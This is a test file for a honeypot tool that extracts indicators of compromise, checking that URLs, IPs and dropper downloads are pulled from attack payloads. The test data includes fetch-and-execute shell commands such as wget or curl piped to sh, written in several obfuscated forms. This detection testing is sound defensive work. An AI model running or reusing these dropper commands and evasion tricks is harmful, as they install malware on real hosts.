@@ -1,0 +1,228 @@
+import { randomBytes } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { Iocs } from '../../events/event.js';
+import {
+  defang, extractIocs, MAX_DOMAINS, MAX_DOWNLOADS, MAX_FILES, MAX_HASHES, MAX_IPS, MAX_URLS,
+} from './index.js';
+import type { IocEvent } from './sources.js';
+
+interface CorpusRecord {
+  id: string;
+  payload_b64: string;
+  expect: { protocol: string; iocs: string[] };
+}
+
+const CORPUS = new URL('../../../test/fixtures/corpus/attacks.jsonl', import.meta.url);
+const records: CorpusRecord[] = readFileSync(CORPUS, 'utf8').split('\n')
+  .filter((line) => line.trim() !== '').map((line) => JSON.parse(line) as CorpusRecord);
+
+function event(payload: string | Buffer, more: Partial<IocEvent> = {}): IocEvent {
+  const bytes = typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload;
+  return {
+    payload_b64: bytes.toString('base64'), commands: [], fields: {}, dst_ip: '127.0.0.1',
+    protocol: 'unknown', credentials: [], ...more,
+  };
+}
+
+function corpusEvent(record: CorpusRecord, withHost: boolean): IocEvent {
+  const payload = Buffer.from(record.payload_b64, 'base64');
+  const host = /^host:[ \t]*([^\r\n]*)/im.exec(payload.toString('latin1'))?.[1];
+  const fields = withHost && host !== undefined ? { host } : {};
+  return event(payload, { protocol: record.expect.protocol, fields });
+}
+
+const hosts = (iocs: Iocs): string[] => [...iocs.urls, ...iocs.ips, ...iocs.domains];
+
+function expectCapped(iocs: Iocs): void {
+  expect(iocs.urls.length).toBeLessThanOrEqual(MAX_URLS);
+  expect(iocs.ips.length).toBeLessThanOrEqual(MAX_IPS);
+  expect(iocs.domains.length).toBeLessThanOrEqual(MAX_DOMAINS);
+  expect(iocs.downloads.length).toBeLessThanOrEqual(MAX_DOWNLOADS);
+  expect(iocs.files.length).toBeLessThanOrEqual(MAX_FILES);
+  expect(iocs.hashes.length).toBeLessThanOrEqual(MAX_HASHES);
+  for (const url of iocs.urls) expect(() => new URL(url)).not.toThrow();
+  for (const list of Object.values(iocs)) expect(new Set(list).size).toBe(list.length);
+}
+
+describe('the attack corpus', () => {
+  const http = records.filter((r) => r.expect.protocol === 'http');
+  const cases = [
+    ...records.map((r) => [`${r.id}`, r, false] as const),
+    ...http.map((r) => [`${r.id} with fields.host`, r, true] as const),
+  ];
+
+  it.each(cases)('%s yields every expected indicator', (_name, record, withHost) => {
+    const iocs = extractIocs(corpusEvent(record, withHost));
+    expect(hosts(iocs)).toEqual(expect.arrayContaining(record.expect.iocs));
+    if (record.expect.iocs.length === 0) expect(iocs.urls).toEqual([]);
+    expect(hosts(iocs)).not.toContain('203.0.113.10');
+    expectCapped(iocs);
+  });
+
+  it('has droppers with their downloads and file names', () => {
+    const byId = (id: string): Iocs =>
+      extractIocs(corpusEvent(records.find((r) => r.id === id) as CorpusRecord, false));
+    expect(byId('http-netgear-setupcgi-mozi')).toMatchObject({
+      urls: ['http://192.168.1.1:8088/Mozi.m'],
+      downloads: ['wget http://192.168.1.1:8088/Mozi.m -O /tmp/netgear'],
+      files: ['Mozi.m', 'netgear'],
+    });
+    expect(byId('telnet-mirai-login-gafgyt-dropper')).toMatchObject({
+      urls: ['http://198.51.100.170/ISIS.sh', 'tftp://198.51.100.170/tftp1.sh'],
+      domains: [],
+      files: ['ISIS.sh', 'tftp1.sh'],
+    });
+    expect(byId('http-jenkins-groovy-script-console').hashes)
+      .toEqual(['fb101f4db773ad15e3de4016e4b6516a7232dc499d8869a279524bf34a28f156']);
+    expect(byId('http-huawei-hg532-cve-2017-17215')).toMatchObject({ urls: [], hashes: [] });
+  });
+});
+
+describe('false-positive traps', () => {
+  it('takes version numbers in user agents for versions', () => {
+    const ua = 'GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0) Chrome/120.0.0.0 '
+      + 'Safari/537.36 Geth/v1.6.1-stable-021c3c28/linux-amd64/go1.8.1\r\n\r\n';
+    expect(extractIocs(event(ua))).toMatchObject({ ips: [], domains: [], urls: [] });
+  });
+
+  it('takes file names with TLD-like extensions for files', () => {
+    const iocs = extractIocs(event('cd /tmp; sh ISIS.sh; sh mirai.sh; python x.py; ./Mozi.m; '
+      + 'GET /index.php; chmod +x China.Z-dukk'));
+    expect(iocs.domains).toEqual([]);
+  });
+
+  it('never reports the sensor: dst_ip, Host header, fields.host, 0.0.0.0', () => {
+    const payload = 'GET /?u=http://203.0.113.10:8080/x&v=0.0.0.0 HTTP/1.1\r\n'
+      + 'Host: honeypot.example.com:8080\r\nReferer: http://honeypot.example.com/\r\n\r\n'
+      + 'connect 192.0.2.55 203.0.113.10';
+    const iocs = extractIocs(event(payload, { dst_ip: '::ffff:192.0.2.55',
+      fields: { host: '203.0.113.10:8080' } }));
+    expect(iocs).toMatchObject({ urls: [], ips: [], domains: [] });
+  });
+
+  it('takes the SLAVEOF address of a Redis command', () => {
+    const iocs = extractIocs(event('', { commands: ['SLAVEOF 198.51.100.211 8886'] }));
+    expect(iocs.ips).toEqual(['198.51.100.211']);
+  });
+});
+
+describe('shell obfuscation from real droppers', () => {
+  const b64 = (text: string): string => Buffer.from(text).toString('base64');
+
+  it.each([
+    ['${IFS}', 'cd${IFS}/tmp;wget${IFS}http://198.51.100.31/bins.sh;sh${IFS}bins.sh'],
+    ['$IFS$9', 'cd$IFS$9/tmp;wget$IFS$9http://198.51.100.31/bins.sh'],
+    ['base64 pipe', `echo ${b64('wget http://198.51.100.31/bins.sh')} | base64 -d | sh`],
+    ['echo -e hex', String.raw`echo -e '\x77\x67\x65\x74 \x68\x74\x74\x70://198.51.100.31/bins.sh'|sh`],
+    ['quote splitting', `w'g'e"t" "h"t't'p://198.51.100.31/bins.sh`],
+    ['escaped letters', String.raw`\w\g\e\t http://198.51.100.31/bins.sh`],
+    ['URL encoding', 'cmd=wget%20http%3A%2F%2F198.51.100.31%2Fbins.sh'],
+    ['HTML entities', 'wget&#32;http&#58;&#47;&#47;198.51.100.31/bins.sh'],
+    ['variables', 'u=http://198.51.100.31; f=bins.sh; wget $u/$f'],
+  ])('%s', (_name, payload) => {
+    const iocs = extractIocs(event(payload));
+    expect(iocs.urls).toContain('http://198.51.100.31/bins.sh');
+    expect(iocs.ips).toEqual(['198.51.100.31']);
+    expect(iocs.downloads.some((d) => d.startsWith('wget http://198.51.100.31/bins.sh')))
+      .toBe(true);
+    expect(iocs.files).toContain('bins.sh');
+  });
+});
+
+describe('sources besides the payload', () => {
+  it('reads commands and the request fields each protocol records', () => {
+    const iocs = extractIocs(event('', {
+      commands: ['curl -s http://198.51.100.1/a | sh'],
+      fields: {
+        path: '/x', query: 'cmd=wget+http://198.51.100.2/b',
+        headers: [['referer', 'http://example.org/c'], ['host', 'sensor.example.net']],
+        body: Buffer.from('wget http://198.51.100.3/d').toString('base64'), body_encoding: 'base64',
+        requests: [{ path: '/?u=http://198.51.100.4/e' }],
+        inner: { protocol: 'http', fields: { path: '/?u=http://198.51.100.5/f' } },
+        keys_set: [{ key: 'x', value: '*/1 * * * * curl http://198.51.100.6/g' }],
+        config_set: { dir: '/tmp/198.51.100.99' }, services: ['shell:wget http://198.51.100.7/h'],
+        java_classes: ['http.example.com.Gadget'], hassh: 'd41d8cd98f00b204e9800998ecf8427e',
+      },
+    }));
+    expect(new Set(iocs.urls)).toEqual(new Set(['http://198.51.100.1/a', 'http://198.51.100.2/b',
+      'http://example.org/c', 'http://198.51.100.3/d', 'http://198.51.100.4/e',
+      'http://198.51.100.5/f', 'http://198.51.100.6/g', 'http://198.51.100.7/h']));
+    expect(iocs.urls[0]).toBe('http://198.51.100.1/a');
+    expect(iocs.domains).toEqual(['example.org']);
+    expect(iocs.hashes).toEqual([]);
+  });
+
+  it('keeps first-seen order and reports each value once', () => {
+    const iocs = extractIocs(event('wget http://198.51.100.2/a; wget http://198.51.100.1/a; '
+      + 'wget http://198.51.100.2/a', { commands: ['wget http://198.51.100.1/a'] }));
+    expect(iocs.urls).toEqual(['http://198.51.100.2/a', 'http://198.51.100.1/a']);
+    expect(iocs.ips).toEqual(['198.51.100.2', '198.51.100.1']);
+    expect(iocs.downloads).toEqual(['wget http://198.51.100.2/a', 'wget http://198.51.100.1/a']);
+  });
+
+  it('caps every list', () => {
+    const many = Array.from({ length: 300 }, (_, i) =>
+      `wget http://h${i}.example.com/f${i} -O o${i}; ping 192.0.2.${i % 250 + 1}; `
+      + `${i.toString(16).padStart(32, 'a')}`).join('\n');
+    const iocs = extractIocs(event(many));
+    expect(iocs.urls).toHaveLength(MAX_URLS);
+    expect(iocs.ips).toHaveLength(MAX_IPS);
+    expect(iocs.domains).toHaveLength(MAX_DOMAINS);
+    expect(iocs.downloads).toHaveLength(MAX_DOWNLOADS);
+    expect(iocs.files).toHaveLength(MAX_FILES);
+    expect(iocs.hashes).toHaveLength(MAX_HASHES);
+  });
+
+  it('gives every indicator a defanged form without a followable link', () => {
+    const record = records.find((r) => r.id === 'http-shellshock-chinaz-dropper') as CorpusRecord;
+    const iocs = extractIocs(corpusEvent(record, true));
+    for (const value of [...hosts(iocs), ...iocs.downloads]) {
+      expect(defang(value)).not.toMatch(/https?:\/\/|example\.net|\d\.\d+\.\d+\.\d/);
+    }
+  });
+});
+
+describe('hostile input', () => {
+  let nested = 'wget http://198.51.100.7/x';
+  for (let i = 0; i < 10; i++) nested = Buffer.from(nested).toString('base64');
+  const hostile: Record<string, Buffer> = {
+    'random bytes': randomBytes(64 * 1024),
+    'http:// repeated': Buffer.from('http://'.repeat(Math.ceil(65536 / 7))),
+    'nested base64 ten levels deep': Buffer.from(nested.padEnd(64 * 1024, ' ')),
+    '%25 repeated': Buffer.from('%25'.repeat(Math.ceil(65536 / 3))),
+    'URLs and commands everywhere': Buffer.from(
+      'wget http://198.51.100.1/a.sh;tftp -g -r b 198.51.100.2|'.repeat(1200)),
+  };
+
+  it.each(Object.entries(hostile))('%s (64 KiB) within caps and a generous bound', (_n, bytes) => {
+    const started = performance.now();
+    const iocs = extractIocs(event(bytes, { commands: [bytes.toString('latin1').slice(0, 2048)] }));
+    // A safety bound far above the tens of ms expected, so a slow machine does not fail it.
+    expect(performance.now() - started).toBeLessThan(5000);
+    expectCapped(iocs);
+  });
+});
+
+describe('properties', () => {
+  const piece = fc.constantFrom('http://', 'https://', 'tftp://', 'ftp://', '198.51.100.', '1',
+    '255', '.', ':', '/', '[2001:db8::1]', 'example.com', '%20', '+', '-O ', 'wget ', 'curl ',
+    'tftp -g -r ', ';', '|', '&&', "'", '"', '$', '${IFS}', '\\x41', 'd2dldA==', ')', ' ', '\n',
+    'a.sh', 'xn--', '@', '#', '?', '=', '&');
+  const text = fc.oneof(fc.string({ maxLength: 400 }),
+    fc.array(piece, { maxLength: 80 }).map((p) => p.join('')));
+  const fieldValue = fc.oneof(text, fc.array(text, { maxLength: 3 }), fc.integer(),
+    fc.constant(null));
+
+  it('never throws; lists are capped, distinct, and every URL parses', () => {
+    fc.assert(fc.property(text, fc.array(text, { maxLength: 3 }),
+      fc.dictionary(fc.constantFrom('path', 'query', 'body', 'headers', 'requests', 'inner',
+        'services', 'keys_set', 'config_set', 'host', 'replicaof'), fieldValue),
+      (payload, commands, fields) => {
+        const iocs = extractIocs(event(payload, { commands, fields }));
+        expectCapped(iocs);
+        for (const value of [...hosts(iocs), ...iocs.downloads]) defang(value);
+      }), { numRuns: 400 });
+  });
+});
